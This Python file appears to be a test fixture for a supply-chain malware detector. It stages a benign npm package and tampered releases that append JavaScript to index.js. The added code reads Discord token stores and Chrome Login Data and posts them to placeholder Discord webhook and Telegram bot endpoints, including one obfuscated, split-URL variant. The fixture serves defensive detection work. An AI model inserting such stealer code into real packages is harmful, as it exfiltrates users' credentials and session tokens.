"""Stolen data posted into a chat: a webhook needs no server of the attacker's.

As hundreds of "discord" and "roblox" packages did: browsers' and Discord's token stores are read
and posted to a webhook of Discord, or through Telegram's bots.

Post-mortem: "Malicious npm packages are after your Discord tokens" (JFrog, 2021-12).
In the staged tarball: new code that reads a program's data folder and posts to a webhook.
"""

from tests.findings.attack import Attack, release

_SOURCE = "exports.embed = (title, text) => ({ title, description: text, color: 0x2f81f7 });\n"
_NEXT = _SOURCE.replace("0x2f81f7", "0x1f6feb")
_PLAIN = """
const fs = require('fs');
const path = require('path');
const https = require('https');

const folder = path.join(process.env.APPDATA || '', 'discord', 'Local Storage', 'leveldb');
const tokens = [];
for (const name of fs.existsSync(folder) ? fs.readdirSync(folder) : []) {
  const text = fs.readFileSync(path.join(folder, name), 'latin1');
  for (const found of text.match(/[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}/g) || []) tokens.push(found);
}
const hook = 'https://discord.com/api/webhooks/0/example';<<<drop-address>>>
const request = https.request(hook, { method: 'POST' });<<<exfiltration>>>
request.setHeader('Content-Type', 'application/json');
request.end(JSON.stringify({ content: tokens.join('\\n') }));
"""
_SPLIT = """
const at = ['https:/', 'disc' + 'ord.com', 'api', 'web' + 'hooks', '0', 'example'].join('/');
const { readFileSync: read } = require('fs');
const from = `${process.env.LOCALAPPDATA}/Google/Chrome/User Data/Default/Login Data`;
fetch(at, { method: 'POST', body: read(from).toString('base64') });<<<exfiltration>>>
"""
_TELEGRAM = """
const { hostname, userInfo } = require('os');
const bot = '0:example';
const text = encodeURIComponent(`${hostname()} ${userInfo().username} ${process.cwd()}`);
fetch(`https://api.telegram.org/bot${bot}/sendMessage?chat_id=0&text=${text}`);<<<drop-address>>>
"""

ATTACK = Attack(
    before=release("chat-embeds", "1.0.0", {"index.js": _SOURCE}),
    unharmed=release("chat-embeds", "1.0.1", {"index.js": _NEXT}),
    after={
        "plain": release("chat-embeds", "1.0.1", {"index.js": _NEXT + _PLAIN}),
        "Telegram, and only the machine's name": release(
            "chat-embeds", "1.0.1", {"index.js": _NEXT + _TELEGRAM}
        ),
        "split": release("chat-embeds", "1.0.1", {"index.js": _NEXT + _SPLIT}),
    },
)
